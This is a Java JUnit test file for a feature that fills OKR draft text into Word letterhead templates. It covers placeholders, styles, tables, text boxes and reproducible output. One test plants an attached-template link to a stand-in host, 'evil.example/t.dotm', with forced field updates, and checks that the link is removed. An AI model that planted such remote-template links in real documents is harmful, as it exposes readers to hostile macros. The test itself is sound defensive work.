package okrworkshop.paper.docx;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.regex.Pattern;
import okrworkshop.paper.Block;
import okrworkshop.paper.Book;
import okrworkshop.paper.Letterhead;
import okrworkshop.paper.Papers;
import okrworkshop.paper.Particulars;
import okrworkshop.paper.Placeholder;
import okrworkshop.shared.Language;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.apache.poi.xwpf.usermodel.XWPFParagraph;
import org.apache.poi.xwpf.usermodel.XWPFRelation;
import org.junit.jupiter.api.Test;

class LetterheadTest {
    private static final Book WHOLE = SampleBooks.whole(Language.ZH, Book.Density.ROOMY);
    private static final Particulars ROOM = new Particulars("智能家居 & Co", "第3组", "2026-04-01 – 2026-06-30", "128");

    @Test
    void placeholdersAreFilledInTextHeaderAndFooter() {
        byte[] docx = set(Templates.of("{{title}} / {{ Workshop }} / {{group}} / {{cycle}} / {{date}} / {{version}}"));

        assertThat(paragraphs(docx))
                .contains("OKR 草稿 · 第3组「门锁新品」 / 智能家居 & Co / 第3组 / 2026-04-01 – 2026-06-30 / 2026-03-02 / 128");
        assertThat(Templates.text(docx, "word/header1.xml")).contains("智能家居 &amp; Co | 第3组");
        assertThat(Templates.text(docx, "word/footer1.xml")).contains("草稿 · 版本 128 · 2026-03-02");
    }

    @Test
    void aPlaceholderThatWordCutIntoRunsIsFoundAndKeepsTheLookOfItsBeginning() {
        byte[] template = Templates.made(document -> {
            XWPFParagraph paragraph = document.createParagraph();
            paragraph.createRun().setText("for ");
            paragraph.createRun().setText("{");
            var bold = paragraph.createRun();
            bold.setBold(true);
            bold.setText("{gro");
            paragraph.createRun().setText("up}");
            paragraph.createRun().setText("} on {{date}}");
        });

        assertThat(paragraphs(set(template))).contains("for 第3组 on 2026-03-02");
    }

    @Test
    void placeholdersInTablesAndBoundControlsAreFilledAndStayFilled() {
        byte[] template = Templates.changed(
                Templates.of("x"),
                "word/document.xml",
                body -> body.replace(
                        "<w:sectPr>",
                        "<w:tbl><w:tblPr/><w:tblGrid><w:gridCol"
                                + " w:w=\"100\"/></w:tblGrid><w:tr><w:tc><w:p><w:sdt><w:sdtPr><w:dataBinding"
                                + " w:xpath=\"/x\" w:storeItemID=\"{1}\"/></w:sdtPr><w:sdtContent><w:r>"
                                + "<w:t>{{title}}</w:t></w:r></w:sdtContent></w:sdt></w:p></w:tc></w:tr></w:tbl><w:p/><w:sectPr>"));

        assertThat(Templates.text(set(template), "word/document.xml"))
                .contains("OKR 草稿 · 第3组「门锁新品」</w:t>")
                .doesNotContain("dataBinding");
    }

    @Test
    void placeholdersInTextBoxesAreFilledAndThoseAroundThemToo() {
        String box = "<w:r><w:pict><v:shape xmlns:v=\"urn:schemas-microsoft-com:vml\"><v:textbox><w:txbxContent>"
                + "<w:p><w:r><w:t>box {{group}}</w:t></w:r></w:p></w:txbxContent></v:textbox></v:shape></w:pict></w:r>";
        String drawn = "<w:r><w:drawing><wps:txbx"
                + " xmlns:wps=\"http://schemas.microsoft.com/office/word/2010/wordprocessingShape\"><w:txbxContent>"
                + "<w:p><w:r><w:t>drawn {{group}}</w:t></w:r></w:p></w:txbxContent></wps:txbx></w:drawing></w:r>";
        byte[] template = Templates.changed(
                Templates.of("around {{group}}"),
                "word/document.xml",
                body -> body.replaceFirst("</w:p>", box + drawn + "</w:p>"));

        assertThat(Templates.text(set(template), "word/document.xml"))
                .contains("around 第3组<", "box 第3组<", "drawn 第3组<");
    }

    @Test
    void theBookStandsWhereTheTemplateWantsItAndSaysNothingTwice() {
        byte[] docx = set(Templates.of("before", "{{title}}", "{{contents}}", "{{content}}", "after"));
        List<String> texts = paragraphs(docx);

        assertThat(texts).startsWith("before", "OKR 草稿 · 第3组「门锁新品」").endsWith("after");
        assertThat(texts).containsOnlyOnce("OKR 草稿 · 第3组「门锁新品」").doesNotContain("目录", "{{content}}");
        String body = Templates.text(docx, "word/document.xml");
        assertThat(body.indexOf("TOC \\o"))
                .isPositive()
                .isLessThan(body.indexOf("Heading1"))
                .isEqualTo(body.lastIndexOf("TOC \\o"));
        assertThat(body).containsOnlyOnce("w:name=\"_Tocokr_1\"").containsOnlyOnce("w:name=\"_Tocokr_5\"");
    }

    @Test
    void aTemplateWithoutAPlaceGetsTheBookAtItsEnd() {
        List<String> texts = paragraphs(set(Templates.of("Dear reader")));

        assertThat(texts.getFirst()).isEqualTo("Dear reader");
        assertThat(texts).contains("OKR 草稿 · 第3组「门锁新品」", "3 任务与 30 天计划");
    }

    @Test
    void stylesThatTheTemplateHasAreUsedByNameAndOthersAreAdded() {
        byte[] template = Templates.changed(
                Templates.of("{{content}}"),
                "word/styles.xml",
                styles -> styles.replace("w:styleId=\"Heading1\"", "w:styleId=\"1\"")
                        .replace("w:val=\"heading 1\"", "w:val=\"Heading 1\"")
                        .replaceAll("(?s)<w:style [^>]*w:styleId=\"(ListBullet|Remark)\".*?</w:style>", ""));
        byte[] docx = set(template);

        assertThat(Templates.text(docx, "word/document.xml"))
                .contains("<w:pStyle w:val=\"1\"/>")
                .doesNotContain("\"Heading1\"");
        String styles = Templates.text(docx, "word/styles.xml");
        assertThat(styles).contains("w:styleId=\"ListBullet\"", "w:styleId=\"Remark\"");
        assertThat(Templates.text(docx, "word/numbering.xml")).contains("w:numId=\"2\"");
        assertThat(Templates.text(docx, "word/document.xml")).contains("<w:numId w:val=\"2\"/>");
    }

    @Test
    void anIdThatTheTemplateGaveToAnotherStyleIsNotTaken() {
        byte[] template = Templates.changed(
                Templates.of("{{content}}"),
                "word/styles.xml",
                styles -> styles.replace("<w:name w:val=\"Remark\"/>", "<w:name w:val=\"House remark\"/>"));
        String styles = Templates.text(set(template), "word/styles.xml");

        assertThat(styles).contains("w:styleId=\"OkrRemark\"", "House remark");
    }

    @Test
    void headingsThatTheTemplateNumbersKeepTheBooksNumbersOnly() {
        byte[] changed = Templates.changed(
                Templates.of("{{content}}"),
                "word/styles.xml",
                styles -> styles.replace(
                        "<w:pPr><w:keepNext/><w:keepLines/><w:spacing w:before=\"360\"",
                        "<w:pPr><w:keepNext/><w:keepLines/><w:numPr><w:numId w:val=\"1\"/></w:numPr><w:spacing"
                                + " w:before=\"360\""));

        assertThat(Templates.text(set(changed), "word/document.xml"))
                .contains(
                        "<w:pStyle w:val=\"Heading1\"/><w:numPr><w:ilvl w:val=\"0\"/><w:numId w:val=\"0\"/></w:numPr>");
    }

    @Test
    void aTemplateOfAnotherProgramWithoutStylesCarriesABookThatOpens() {
        byte[] docx = set(Templates.made(
                document -> document.createParagraph().createRun().setText("{{content}}")));

        try (XWPFDocument document = Templates.open(docx)) {
            assertThat(document.getStyles().getStyle("Heading1").getName()).isEqualTo("heading 1");
            assertThat(document.getTables()).hasSize(3);
            assertThat(document.getAllPictures()).isNotEmpty();
            assertThat(document.getProperties().getCoreProperties().getCreator())
                    .isEqualTo("OKR Workshop");
        } catch (java.io.IOException impossible) {
            throw new java.io.UncheckedIOException(impossible);
        }
    }

    @Test
    void tablesAreAsBroadAsTheTemplatesText() {
        byte[] template = Templates.changed(
                Templates.of("{{content}}"),
                "word/document.xml",
                body -> body.replace("w:left=\"1134\"", "w:left=\"3000\"")
                        .replace("w:right=\"1134\"", "w:right=\"2000\""));

        assertThat(Templates.text(set(template), "word/document.xml"))
                .contains("<w:tblW w:w=\"" + (11_906 - 5_000) + "\" w:type=\"dxa\"/>");
    }

    @Test
    void aBookCanBeTheTemplateOfTheNextOne() {
        byte[] docx = set(set(Templates.of("x")));
        String body = Templates.text(docx, "word/document.xml");

        assertThat(body).containsOnlyOnce("w:name=\"_Tocokr_1\"").containsOnlyOnce("w:name=\"_Tocokr2_1\"");
        assertThat(Pattern.compile("<wp:docPr id=\"(\\d+)\"").matcher(body).results())
                .extracting(found -> found.group(1))
                .hasSize(2)
                .doesNotHaveDuplicates();
    }

    @Test
    void whatLeadsToAnotherTemplateOrAsksTheReaderIsTakenOut() {
        byte[] linked = Templates.with(
                Templates.changed(
                        Templates.of("{{content}}"),
                        "word/settings.xml",
                        settings -> settings.replace(
                                "<w:zoom",
                                "<w:attachedTemplate xmlns:r=\"" + Templates.OFFICE.replaceAll("/$", "")
                                        + "\" r:id=\"rId1\"/><w:updateFields w:val=\"true\"/><w:zoom")),
                "word/_rels/settings.xml.rels",
                "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship"
                        + " Id=\"rId1\" Type=\"" + Templates.OFFICE
                        + "attachedTemplate\" Target=\"http://evil.example/t.dotm\""
                        + " TargetMode=\"External\"/></Relationships>");
        byte[] docx = set(linked);

        assertThat(Templates.text(docx, "word/settings.xml")).doesNotContain("attachedTemplate", "updateFields");
        assertThat(Templates.text(docx, "word/_rels/settings.xml.rels")).doesNotContain("evil");
    }

    @Test
    void aWordTemplateFileBecomesADocument() {
        byte[] dotx = Templates.changed(
                Templates.of("{{content}}"),
                TemplateCheck.TYPES,
                types -> types.replace(XWPFRelation.DOCUMENT.getContentType(), XWPFRelation.TEMPLATE.getContentType()));

        assertThat(Templates.text(set(dotx), TemplateCheck.TYPES))
                .contains(XWPFRelation.DOCUMENT.getContentType())
                .doesNotContain(XWPFRelation.TEMPLATE.getContentType());
    }

    @Test
    void aPlaceholderThatEndsASectionLeavesTheSectionAlone() {
        byte[] template = Templates.changed(
                Templates.of("{{content}}"),
                "word/document.xml",
                body -> body.replaceFirst(
                        "<w:pPr><w:pStyle w:val=\"Normal\"/></w:pPr>",
                        "<w:pPr><w:sectPr><w:pgSz w:w=\"9000\" w:h=\"9000\"/><w:pgMar w:left=\"500\" w:right=\"500\""
                                + " w:top=\"500\" w:bottom=\"500\"/></w:sectPr></w:pPr>"));
        String body = Templates.text(set(template), "word/document.xml");

        assertThat(body).contains("w:w=\"9000\"", "w:w=\"8000\"").doesNotContain("{{content}}");
    }

    @Test
    void wordsOfPeopleCannotBecomePlaceholdersOrMarkup() {
        Book book = SampleBooks.of(
                Language.EN, Book.Density.ROOMY, List.of(new Block.Paragraph("{{group}} <w:p/> {{nonsense}}")));
        Particulars named = new Particulars("{{title}}", "</w:t>", "", "");
        byte[] docx = Papers.docx(book, Letterhead.read(Templates.of("{{workshop}} {{group}}")), named);

        assertThat(paragraphs(docx)).contains("{{title}} </w:t>", "{{group}} <w:p/> {{nonsense}}");
    }

    @Test
    void theSameBookOnTheSameTemplateGivesTheSameBytes() {
        byte[] template = Templates.of("{{title}}", "{{content}}");

        assertThat(set(template)).isEqualTo(set(template));
    }

    @Test
    void aTemplateTellsWhichPlaceholdersItHas() {
        assertThat(Letterhead.read(Templates.of("{{TITLE}}", "{{content}}")).placeholders())
                .containsExactlyInAnyOrder(
                        Placeholder.TITLE,
                        Placeholder.CONTENT,
                        Placeholder.WORKSHOP,
                        Placeholder.GROUP,
                        Placeholder.MARK);
    }

    private static byte[] set(byte[] template) {
        return Papers.docx(WHOLE, Letterhead.read(template), ROOM);
    }

    private static List<String> paragraphs(byte[] docx) {
        return Templates.open(docx).getParagraphs().stream()
                .map(XWPFParagraph::getText)
                .filter(text -> !text.isEmpty())
                .toList();
    }
}
